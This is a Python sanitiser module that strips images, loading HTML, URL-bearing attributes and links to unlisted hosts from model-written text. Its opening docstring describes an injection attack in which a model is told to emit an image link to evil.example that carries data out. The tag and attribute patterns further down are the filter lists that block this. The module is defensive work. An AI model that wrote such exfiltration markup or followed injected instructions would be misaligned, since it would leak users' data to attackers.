"""Model-written text made safe to store and show: nothing in it loads from, or links to, a stranger.

A model that read hostile content can be told to write ``![](https://evil.example/p.png?d=<data>)``
into its answer: a browser that renders the answer as markdown fetches the image, and the data goes
with it, without a click. So before model text is stored:

- every image goes: markdown ``![..](..)``, ``![..][ref]``, ``![..]``, and the forms renderers
  disagree on (``![x] (url)``);
- HTML that loads something (``<img>``, ``<iframe>``, ``<script>``, ``<link>``, ``<style>``, ``<svg>``,
  ``<video>`` ...) goes, and so does any other tag carrying a URL, a style or an event attribute;
- links (markdown, reference definitions, ``<autolinks>``, bare URLs) to hosts not on the allow-list
  keep their words but lose the address, where data would ride.

Pure functions; the whole pass repeats until nothing changes, so that removing one construct cannot
assemble another from the pieces around it.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Iterable
from urllib.parse import urlsplit

LINK_REMOVED = "(link removed)"
_MAX_PASSES = 20

# One level of nesting inside brackets and parentheses, backslash escapes allowed.
_BRACKETED = r"\[(?:[^\[\]\\]|\\.|\[(?:[^\[\]\\]|\\.)*\])*\]"
_PARENTHESIZED = r"\((?:[^()\\]|\\.|\((?:[^()\\]|\\.)*\))*\)"

_IMAGE = re.compile(rf"!{_BRACKETED}(?:\s*{_PARENTHESIZED}|[ \t]*\[[^\[\]]*\])?", re.DOTALL)
_LINK = re.compile(rf"(?<!\\)(?P<label>{_BRACKETED})\s*(?P<dest>{_PARENTHESIZED})", re.DOTALL)
_DEFINITION = re.compile(r"^[ \t]{0,3}\[(?P<label>[^\]\n]+)\]:[ \t]*\n?[ \t]*(?P<url><[^>\n]*>|\S+)[^\n]*$",
                         re.MULTILINE)
_AUTOLINK = re.compile(r"<(?P<url>[a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^\s<>]*)>")
_BARE_URL = re.compile(r"(?<![\w@/.-])(?P<url>(?:(?:https?|ftp)://|www\.)[^\s<>\"'`]+)", re.IGNORECASE)

# Elements whose content goes with them, then every tag of an element that loads or runs something.
_PAIRED = ("script|style|iframe|frame|frameset|object|applet|svg|math|video|audio|picture|noscript|template|"
           "title|xmp|noembed|noframes")
_LOADING = f"{_PAIRED}|img|image|embed|link|meta|base|source|track|input|form|button|bgsound|portal|body|html|head"
_OPENING = re.compile(rf"<(?P<tag>{_PAIRED})(?=[\s/>])", re.IGNORECASE)
_LOADING_TAG = re.compile(rf"</?(?:{_LOADING})(?=[\s/>]|$)[^>]*(?:>|$)", re.IGNORECASE)
# Every tag matches (to its ">" or the end), so the scan is linear; its attributes decide whether it goes.
_TAG = re.compile(r"</?[a-zA-Z][\w:-]*(?=[\s/])(?P<attrs>[^>]*)(?:>|$)")
_URL_ATTR = re.compile(r"(?:^|[\s/\"'])(?:src|srcset|lowsrc|dynsrc|href|xlink:href|background|poster|data|action|"
                       r"formaction|style|ping|cite|codebase|manifest|longdesc|usemap|on[a-z]+)\s*=", re.IGNORECASE)
_BANG = re.compile(r"!(?=\[)")  # an image the patterns above could not parse
_MD_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_CONTROL = re.compile(r"[\x00-\x20\x7f]")


def normalise_hosts(hosts: Iterable[str]) -> tuple[str, ...]:
    """Allow-list entries as bare lower-case host names (a URL or ``host:port`` gives its host)."""
    out: list[str] = []
    for entry in hosts:
        entry = entry.strip().lower()
        if not entry:
            continue
        host = urlsplit(entry if "//" in entry else f"//{entry}").hostname or ""
        if host.strip("."):
            out.append(host.strip("."))
    return tuple(dict.fromkeys(out))


def link_allowed(url: str, allowed_hosts: Iterable[str]) -> bool:
    """Whether a link may stay: a relative address (this app's own), or http(s) to an allowed host or
    one of its subdomains. Read the way a browser would: entities and markdown escapes decoded,
    whitespace and control characters dropped, backslashes as slashes."""
    raw = _MD_ESCAPE.sub(r"\1", html.unescape(url.strip().strip("<>")))
    cleaned = _CONTROL.sub("", raw).replace("\\", "/")
    if not cleaned:
        return True
    if cleaned.lower().startswith("www."):
        cleaned = "http://" + cleaned
    elif cleaned.startswith("//"):
        cleaned = "http:" + cleaned
    try:
        parts = urlsplit(cleaned)
        host = parts.hostname
    except ValueError:
        return False
    if not parts.scheme and not parts.netloc:
        return True  # a path on this app
    if parts.scheme.lower() not in ("http", "https") or not host:
        return False
    host = host.rstrip(".")
    return any(host == h or host.endswith("." + h) for h in normalise_hosts(allowed_hosts))


def strip_remote_content(text: str) -> str:
    """``text`` without images or HTML that loads or runs anything (links are left as they are)."""
    return _to_fixpoint(text, _strip_remote_once)


def strip_unknown_links(text: str, allowed_hosts: Iterable[str] = ()) -> str:
    """``text`` with every link to a host off the allow-list turned into its words alone."""
    hosts = normalise_hosts(allowed_hosts)
    return _to_fixpoint(text, lambda t: _strip_links_once(t, hosts))


def safe_model_text(text: str, allowed_hosts: Iterable[str] = ()) -> str:
    """Model-written text as it may be stored and shown: no images, no loading HTML, no links to
    unknown hosts (``allowed_hosts``: this app's host and the ones the user configured)."""
    hosts = normalise_hosts(allowed_hosts)
    return _to_fixpoint(text, lambda t: _strip_links_once(_strip_remote_once(t), hosts))


def _to_fixpoint(text: str, once: Callable[[str], str]) -> str:
    for _ in range(_MAX_PASSES):
        cleaned = once(text)
        if cleaned == text:
            return cleaned
        text = cleaned
    return text.replace("<", "‹").replace("!", "ǃ")  # still changing: defuse what may be left


def _strip_remote_once(text: str) -> str:
    text = _LOADING_TAG.sub("", _drop_elements(text))
    text = _TAG.sub(lambda m: "" if _URL_ATTR.search(m.group("attrs")) else m.group(0), text)
    return _BANG.sub("", _IMAGE.sub("", text))


def _drop_elements(text: str) -> str:
    """``<script>…</script>``, ``<style>…</style>`` … removed with what they hold. An element with no
    closing tag is left to the tag pass (its text stays, as text); the scan is linear."""
    kept: list[str] = []
    pos = search = 0
    unclosed: set[str] = set()
    while (m := _OPENING.search(text, search)) is not None:
        tag = m.group("tag").lower()
        close = None if tag in unclosed else re.compile(rf"</{tag}\s*>", re.IGNORECASE).search(text, m.end())
        if close is None:
            unclosed.add(tag)  # none after this one, so none after any later one either
            search = m.end()
            continue
        kept.append(text[pos:m.start()])
        pos = search = close.end()
    kept.append(text[pos:])
    return "".join(kept)


def _strip_links_once(text: str, hosts: tuple[str, ...]) -> str:
    def definition(m: re.Match[str]) -> str:
        return m.group(0) if link_allowed(m.group("url"), hosts) else ""

    def link(m: re.Match[str]) -> str:
        if link_allowed(_destination(m.group("dest")), hosts):
            return m.group(0)
        return m.group("label")[1:-1]

    def autolink(m: re.Match[str]) -> str:
        url = m.group("url")
        if url.lower().startswith("mailto:") or link_allowed(url, hosts):
            return m.group(0)
        return LINK_REMOVED

    def bare(m: re.Match[str]) -> str:
        url, tail = m.group("url"), ""
        while url and (url[-1] in ".,:;!?*_~" or (url[-1] == ")" and url.count("(") < url.count(")"))):
            url, tail = url[:-1], url[-1] + tail  # not part of the link, as GFM reads it
        return m.group(0) if link_allowed(url, hosts) else LINK_REMOVED + tail

    if "]:" in text:
        text = _DEFINITION.sub(definition, text)
    if "[" in text:
        text = _LINK.sub(link, text)
    text = _AUTOLINK.sub(autolink, text)
    lowered = text.lower()
    return _BARE_URL.sub(bare, text) if "://" in text or "www." in lowered else text


def _destination(parenthesized: str) -> str:
    """The URL of a markdown link's ``(<url> "title")`` part."""
    inner = parenthesized[1:-1].strip()
    if inner.startswith("<"):
        end = inner.find(">")
        return inner[1:end] if end > 0 else inner[1:]
    return inner.split(None, 1)[0] if inner else ""
